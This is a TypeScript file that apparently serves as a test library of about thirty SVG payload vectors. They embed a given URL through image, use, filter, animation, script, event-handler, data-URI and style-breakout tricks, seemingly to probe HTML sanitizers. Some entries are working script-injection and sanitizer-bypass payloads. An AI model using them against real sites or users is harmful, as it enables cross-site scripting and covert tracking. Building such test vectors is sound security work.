import { vectorsOf } from "./vector.ts";

const wrap = (text: string): string =>
  encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`);

export const SVG = vectorsOf("svg", {
  "svg-image": ({ url }) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
  "svg-image-xlink": ({ url }) => `<svg><image xlink:href="${url}" width="9" height="9"/></svg>`,
  "svg-use": ({ url }) => `<svg><use href="${url}#x"/></svg>`,
  "svg-use-xlink": ({ url }) => `<svg><use xlink:href="${url}#x"/></svg>`,
  "svg-use-data": ({ url }) =>
    `<svg><use href="data:image/svg+xml,${wrap(`<g id="x"><image href="${url}"/></g>`)}#x"/></svg>`,
  "svg-feimage": ({ url }) =>
    `<svg><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "svg-pattern": ({ url }) =>
    `<svg><pattern id="p" href="${url}#p"/><linearGradient id="g" href="${url}#g"/><rect width="9" height="9" fill="url(#p)" stroke="url(#g)"/></svg>`,
  "svg-textpath": ({ url }) =>
    `<svg><text><textPath href="${url}#p">x</textPath><tref xlink:href="${url}#t"/></text></svg>`,
  "svg-mpath": ({ url }) =>
    `<svg><rect width="9" height="9"><animateMotion dur="1s"><mpath href="${url}#p"/></animateMotion></rect></svg>`,
  "svg-animate-href": ({ url }) =>
    `<svg><image width="9" height="9"><animate attributeName="href" values="${url}" dur="1s"/></image></svg>`,
  "svg-set-href": ({ url }) =>
    `<svg><image width="9" height="9" href="data:,"><set attributeName="xlink:href" to="${url}"/></image></svg>`,
  "svg-set-fill": ({ url }) =>
    `<svg><rect width="9" height="9"><set attributeName="filter" to="url(${url}#f)"/></rect></svg>`,
  "svg-script": ({ url }) => `<svg><script href="${url}"></script><script>fetch("${url}")</script></svg>`,
  "svg-handler": ({ url }) =>
    `<svg onload="fetch('${url}')"><animate onbegin="fetch('${url}')" attributeName="x" dur="1s"/></svg>`,
  "svg-foreign": ({ url }) =>
    `<svg><foreignObject width="9" height="9"><img src="${url}"><iframe src="${url}"></iframe></foreignObject></svg>`,
  "svg-discard": ({ url }) =>
    `<svg><handler href="${url}"/><listener handler="${url}#x" event="load"/><discard href="${url}"/><audio href="${url}"/><video xlink:href="${url}"/></svg>`,
  "svg-cursor": ({ url }) =>
    `<svg><cursor id="c" href="${url}"/><rect width="9" height="9" style="cursor:url(#c)"/></svg>`,
  "svg-color-profile": ({ url }) =>
    `<svg><color-profile href="${url}" name="x"/><font-face-uri href="${url}"/><glyphRef href="${url}"/></svg>`,
  "svg-stylesheet-link": ({ url }) =>
    `<svg><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${url}"/></svg>`,
  "svg-data-image": ({ url }) =>
    `<img src="data:image/svg+xml,${wrap(`<image href="${url}"/><style>@import "${url}"</style>`)}">`,
  "svg-data-object": ({ url }) =>
    `<object data="data:image/svg+xml,${wrap(`<image href="${url}"/>`)}"></object>`,
  "svg-data-embed": ({ url }) =>
    `<embed src="data:image/svg+xml,${wrap(`<script>fetch("${url}")</script>`)}">`,
  "svg-data-background": ({ url }) =>
    `<p style="background:url('data:image/svg+xml,${wrap(`<image href='${url}'/>`)}')">x`,
  "svg-data-filter": ({ url }) =>
    `<p style="filter:url('data:image/svg+xml,${wrap(`<filter id="f"><feImage href="${url}"/></filter><style>@import "${url}"</style>`)}#f')">x`,
  "svg-case": ({ url }) => `<SvG><IMAGE XLINK:HREF="${url}" width=9 height=9></SvG>`,
  "svg-base": ({ url }) => `<svg xml:base="${url}"><image href="relative" width="9" height="9"/></svg>`,
  "svg-breakout": ({ url }) => `<svg></p><style><a id="</style><img src=${url}>">`,
  "svg-desc": ({ url }) => `<svg><desc><img src="${url}"></desc><title><img src="${url}"></title></svg>`,
});
